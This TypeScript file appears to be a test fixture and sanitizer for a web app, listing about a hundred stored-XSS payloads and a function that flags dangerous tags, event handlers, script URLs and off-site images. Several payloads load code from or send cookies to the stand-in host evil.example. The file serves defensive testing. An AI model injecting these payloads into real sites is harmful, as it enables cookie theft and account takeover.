import { decodeHTML } from 'entities';

const B64_SCRIPT = 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='; // <script>alert(1)</script>

/** Known stored-XSS payloads, for sanitizer and API tests. */
export const xssPayloads: string[] = [
  // script elements
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<ScRiPt>alert(document.cookie)</sCrIpT>',
  '<script src="https://evil.example/x.js"></script>',
  '<script type="text/javascript">alert(String.fromCharCode(88,83,83))</script>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/src=data:text/javascript,alert(1)></script>',
  '<script>/*</script><script>*/alert(1)</script>',
  '<p>안녕하세요</p><script>fetch("https://evil.example/?c="+document.cookie)</script>',

  // event handlers
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img src="/uploads/qna/1/a.png" onload="alert(1)">',
  '<img src=x\nonerror=alert(1)>',
  '<img src=x onerror="&#97;lert(1)">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<a onmouseover=alert(1)>x</a>',
  '<a href="https://ondo.example" onclick="alert(1)">x</a>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<p onclick="alert(1)">click</p>',
  '<b onmouseover=alert(1)>x</b>',
  '<strong/onclick=alert(1)>x</strong>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)>x</textarea>',

  // javascript: URLs, plain and disguised
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="jav&Tab;ascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<img src="javascript:alert(1)">',

  // data: and vbscript: URLs
  `<a href="data:text/html;base64,${B64_SCRIPT}">x</a>`,
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  `<iframe src="data:text/html;base64,${B64_SCRIPT}"></iframe>`,
  `<object data="data:text/html;base64,${B64_SCRIPT}"></object>`,
  `<embed src="data:text/html;base64,${B64_SCRIPT}">`,
  '<a href="vbscript:msgbox(1)">x</a>',
  '<img src="vbscript:msgbox(1)">',

  // SVG and MathML
  '<svg><script>alert(1)</script></svg>',
  '<svg><script xlink:href="data:,alert(1)"></script></svg>',
  '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
  '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',

  // CSS
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>p{width:expression(alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width: expression(alert(1))">x</div>',
  '<span style="position:fixed;inset:0;background:red">overlay</span>',

  // frames, plugins, forms
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="javascript:alert(1)"><input type="submit"></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',

  // document-level elements
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="import" href="https://evil.example/x.html">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',

  // malformed and unclosed markup
  '<img src=x onerror=alert(1)//',
  '<<script>alert(1);//<</script>',
  '<a href="javascript:alert(1)">x',
  '<img """><script>alert(1)</script>">',
  '<img src=x" onerror="alert(1)">',
  '<p>x</p</p><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',

  // comments, CDATA, processing instructions
  '<!--><script>alert(1)</script>-->',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<? foo="><script>alert(1)</script>">',

  // entity-encoded markup and template syntax: text, and must stay text
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  "{{constructor.constructor('alert(1)')()}}",

  // images from anywhere but our uploads
  '<img src="//evil.example/x.png">',
  '<img src="/\\evil.example/x.png">',
  '<img src="https://evil.example/track.gif" alt="">',
  '<img src="/uploads/../v1/me" alt="">',
  '<img src="/uploads/qna/1/a.png" srcset="https://evil.example/x.png 2x">',
];

const DANGEROUS_TAGS = new Set([
  'script',
  'style',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'svg',
  'math',
  'form',
  'meta',
  'base',
  'link',
  'portal',
]);

const FORBIDDEN_ATTRIBUTES = new Set(['srcdoc', 'formaction', 'style']);

/** Attributes a browser may load or navigate to, where any data: URL counts. */
const URL_ATTRIBUTES = new Set([
  'action',
  'background',
  'cite',
  'codebase',
  'data',
  'dynsrc',
  'formaction',
  'href',
  'lowsrc',
  'ping',
  'poster',
  'src',
  'srcset',
  'xlink:href',
]);

/**
 * One attribute as the HTML tokenizer reads it: separators (whitespace or '/'), a name, then an
 * optional value, quoted or up to whitespace or '>'. A quote inside an unquoted value belongs to
 * the value, which is how `<img src=x" onerror=...>` still gets an onerror.
 */
const ATTRIBUTE = /[\s/]*([^\s/>][^\s/>=]*)(?:\s*=\s*(?:"([^"]*)"?|'([^']*)'?|([^\s>]*)))?/y;
const TAG_NAME = /[^\s/>]*/y;

function* tagsIn(html: string) {
  for (const open of html.matchAll(/<[a-z]/gi)) {
    TAG_NAME.lastIndex = open.index + 1;
    const name = TAG_NAME.exec(html)?.[0].toLowerCase() ?? '';
    const attributes: { name: string; value: string }[] = [];
    let at = TAG_NAME.lastIndex;
    while (at < html.length && html[at] !== '>') {
      ATTRIBUTE.lastIndex = at;
      const match = ATTRIBUTE.exec(html);
      if (!match || ATTRIBUTE.lastIndex === at) break;
      attributes.push({
        name: (match[1] ?? '').toLowerCase(),
        value: match[2] ?? match[3] ?? match[4] ?? '',
      });
      at = ATTRIBUTE.lastIndex;
    }
    yield { name, attributes };
  }
}

/** Decoded as often as it changes: a browser decodes once, a strict check assumes the worst. */
function decodeFully(value: string): string {
  let current = value;
  for (let round = 0; round < 5; round++) {
    const next = decodeHTML(current);
    if (next === current) break;
    current = next;
  }
  return current;
}

/** URL parsers drop whitespace and control characters, so 'java\tscript:' is 'javascript:'. */
const squeeze = (value: string) => value.replace(/[\s\p{Cc}]/gu, '').toLowerCase();

function valueProblem(tag: string, name: string, raw: string): string | undefined {
  const value = squeeze(decodeFully(raw));
  const scheme = /(?:javascript|vbscript|livescript):/.exec(value);
  if (scheme) return `${scheme[0]} in ${name} of <${tag}>`;
  // Anywhere, only what is shaped like a data: URL, so that alt="Data: 2024" stays fine.
  const dataUrl =
    /data:[\w.+-]*\/[\w.+-]*[;,]|data:[;,]/.test(value) ||
    (URL_ATTRIBUTES.has(name) && value.startsWith('data:'));
  return dataUrl ? `data: URL in ${name} of <${tag}>` : undefined;
}

function imageProblem(name: string, raw: string): string | undefined {
  if (name === 'srcset') return 'srcset on <img>';
  if (name !== 'src') return undefined;
  const src = decodeFully(raw).trim();
  const inUploads =
    src.startsWith('/uploads/') && !/\\|\/\/|(?:^|\/)(?:\.|%2e){1,2}(?:\/|$)/i.test(src);
  return inUploads ? undefined : `<img> src outside /uploads/: ${src}`;
}

/**
 * Why `html` is unsafe to show, or undefined: a dangerous element (script, style, iframe, object,
 * embed, svg, math, form, meta, base, link, …), an on* handler, srcdoc, formaction or style
 * attribute, a javascript:/vbscript:/data: URL in an attribute (after decoding entities), or an
 * image from outside /uploads/. Every '<' followed by a letter is read as a tag, even inside
 * comments or attribute values, since parsers disagree about those (mutation XSS). Entity-encoded
 * markup in text is text and passes.
 */
export function hasDangerousMarkup(html: string): string | undefined {
  for (const tag of tagsIn(html)) {
    if (DANGEROUS_TAGS.has(tag.name)) return `<${tag.name}> element`;
    const forbidden = tag.attributes.find(
      ({ name }) => name.startsWith('on') || FORBIDDEN_ATTRIBUTES.has(name),
    );
    if (forbidden) return `${forbidden.name} attribute on <${tag.name}>`;
    for (const { name, value } of tag.attributes) {
      const problem =
        valueProblem(tag.name, name, value) ??
        (tag.name === 'img' || tag.name === 'image' ? imageProblem(name, value) : undefined);
      if (problem) return problem;
    }
  }
  return undefined;
}
